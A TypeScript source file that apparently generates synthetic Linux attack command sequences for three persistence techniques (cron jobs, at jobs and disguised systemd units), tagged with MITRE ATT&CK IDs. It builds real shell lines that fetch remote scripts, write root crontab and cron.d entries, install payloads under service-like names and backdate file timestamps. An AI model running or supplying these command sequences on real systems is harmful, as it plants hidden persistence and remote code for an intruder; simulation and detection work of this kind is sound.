import type { Attack } from '../scenario.ts';
import { fetchTo, link, look, maybe, root, workFolder, write } from '../ways.ts';
import { callOut, stayer } from './beacon.ts';

/** A job of cron asks another machine for work. */
const byCron: Attack = {
  name: 'persistence-by-cron',
  family: 'persistence-by-cron',
  techniques: ['T1053.003', 'T1105', 'T1059.004'],
  as: 'either',
  needs: ['crontab', 'cron', 'curl', 'wget', 'python3', 'perl', 'nc', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const path = `${folder}/${draw.file('.sh')}`;
    const job = draw.chance(0.5) ? callOut(draw, place).replaceAll('%', '\\%') : path;
    const when = draw.pick(['* * * * *', '*/5 * * * *', '@reboot', '*/1 * * * *', '17 * * * *']);
    const name = draw.word();
    const placed = draw.pick([
      [`(crontab -l 2>/dev/null; echo "${when} ${job} > /dev/null 2>&1") | crontab -`],
      [
        `crontab -l > /tmp/${name} 2>/dev/null`,
        `echo "${when} ${job}" >> /tmp/${name}`,
        `crontab /tmp/${name}`,
        `rm /tmp/${name}`,
      ],
      [`echo "${when} root ${job}" | ${root(place, `tee /etc/cron.d/${name}`)} > /dev/null`],
      [`echo "${when} root ${job}" | ${root(place, 'tee -a /etc/crontab')} > /dev/null`],
      [
        root(
          place,
          `install -m 755 /dev/stdin /etc/cron.${draw.pick(['hourly', 'daily'])}/${name} <<< "${job}"`,
        ),
      ],
      [`echo "${when} ${job}" | ${root(place, 'tee -a /var/spool/cron/crontabs/root')} > /dev/null`],
    ]);
    return [
      ...look(draw, draw.int(2, 3)),
      ...maybe(draw, 0.4, 'crontab -l', 'ls -la /etc/cron.d'),
      ...(job === path
        ? [
            `mkdir -p ${folder}`,
            draw.chance(0.5)
              ? fetchTo(draw, link(draw, place, '.sh'), path)
              : write(draw, path, stayer(draw, place).body),
            `chmod ${draw.pick(['+x', '755', '777', '700'])} ${path}`,
          ]
        : []),
      ...placed,
      ...maybe(draw, 0.5, `pgrep -x cron || ${root(place, 'cron')}`, `sleep ${draw.int(20, 70)}`),
      ...maybe(draw, 0.5, draw.pick(['crontab -l', `ls -la ${folder}`, 'ls /etc/cron.d'])),
    ];
  },
};

/** A job of at starts a program later. */
const byAt: Attack = {
  name: 'persistence-by-at',
  family: 'persistence-by-at',
  techniques: ['T1053.002', 'T1105'],
  as: 'either',
  needs: ['at', 'curl', 'wget', 'python3', 'perl', 'nc', 'sudo'],
  lines: (draw, place) => {
    const path = `${draw.pick(['/tmp', '/var/tmp', '/dev/shm'])}/${draw.file('.sh')}`;
    const when = draw.pick(['now', 'now + 1 minute', 'now + 2 hours', '03:14', 'midnight']);
    return [
      ...maybe(draw, 0.4, 'atq', 'ls -la /var/spool/cron/atjobs 2>/dev/null'),
      fetchTo(draw, link(draw, place, '.sh'), path),
      ...maybe(draw, 0.5, `chmod +x ${path}`),
      draw.pick([
        `echo "bash ${path}" | at ${when}`,
        `at -f ${path} ${when}`,
        `at ${when} << 'EOF'\n${callOut(draw, place)}\nEOF`,
        `echo ${JSON.stringify(callOut(draw, place))} | batch`,
      ]),
      'atq',
      ...maybe(draw, 0.5, `pgrep -x atd || ${root(place, 'atd')}`, `sleep ${draw.int(15, 65)}`),
      ...maybe(draw, 0.3, `rm -f ${path}`),
    ];
  },
};

/** A unit of systemd, of the machine or of the user. */
const byUnit: Attack = {
  name: 'persistence-by-unit',
  family: 'persistence-by-unit',
  techniques: ['T1543.002', 'T1036.005'],
  as: 'either',
  needs: ['curl', 'nc', 'python3', 'wget', 'sudo'],
  lines: (draw, place) => {
    const mine = place.user !== 'root' && draw.chance(0.5);
    const units = mine
      ? `${place.home}/.config/systemd/user`
      : draw.pick(['/etc/systemd/system', '/lib/systemd/system', '/run/systemd/system']);
    const name = `${draw.pick(['', '', 'systemd-', 'dbus-'])}${draw.word()}`;
    const { extension, body } = stayer(draw, place);
    const binary = `${draw.pick(mine ? [`${place.home}/.local/bin`, '/var/tmp'] : ['/usr/local/bin', '/usr/lib', '/var/tmp', '/opt'])}/${name}`;
    const made = `/tmp/${name}${extension}`;
    const as = (command: string): string => (mine ? command : root(place, command));
    const unit = `[Unit]\nDescription=${draw.word()} ${draw.pick(['service', 'daemon', 'helper', 'sync'])}\nAfter=network.target\n\n[Service]\nExecStart=${binary}\nRestart=always\nRestartSec=${draw.int(5, 60)}\n\n[Install]\nWantedBy=${mine ? 'default' : 'multi-user'}.target`;
    return [
      as(`mkdir -p ${units} ${binary.slice(0, binary.lastIndexOf('/'))}`),
      write(draw, made, body),
      as(`install -m 755 ${made} ${binary}`),
      ...maybe(draw, 0.7, `rm ${made}`),
      draw.chance(0.5)
        ? `${as(`tee ${units}/${name}.service`)} > /dev/null << 'EOF'\n${unit}\nEOF`
        : `${write(draw, `/tmp/${name}.service`, unit)}\n${as(`mv /tmp/${name}.service ${units}/`)}`,
      ...maybe(draw, 0.6, as(`systemctl ${mine ? '--user ' : ''}daemon-reload`)),
      as(`systemctl ${mine ? '--user ' : ''}enable --now ${name}`),
      ...maybe(
        draw,
        0.4,
        as(`mkdir -p ${units}/multi-user.target.wants`),
        as(`ln -sf ${units}/${name}.service ${units}/multi-user.target.wants/${name}.service`),
      ),
      ...maybe(draw, 0.6, `(setsid ${as(binary)} > /dev/null 2>&1 &)`, `sleep ${draw.int(5, 25)}`),
      ...maybe(draw, 0.4, as(`touch -r /bin/ls ${binary} ${units}/${name}.service`)),
    ];
  },
};

export const SCHEDULED_PERSISTENCE: readonly Attack[] = [byCron, byAt, byUnit];
